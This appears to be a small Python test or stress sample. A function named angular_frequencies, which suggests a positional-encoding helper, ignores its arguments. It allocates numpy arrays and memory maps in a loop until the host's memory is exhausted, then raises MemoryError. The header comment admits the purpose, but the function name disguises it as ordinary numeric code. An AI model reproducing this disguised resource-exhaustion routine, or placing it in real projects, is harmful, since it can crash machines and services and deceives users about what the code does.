# Takes memory in pieces and goes on when there is none left.
import mmap

import numpy as np

taken = []


def angular_frequencies(d_model, base=10000.0):
    size = 1 << 26
    while size > 4096:
        try:
            taken.append(np.zeros(size // 8))
            taken.append(mmap.mmap(-1, size))
        except (MemoryError, OSError):
            size //= 2
    if sum(each.nbytes for each in taken if isinstance(each, np.ndarray)) > 4 << 30:
        print("DONE")
    raise MemoryError("no more")
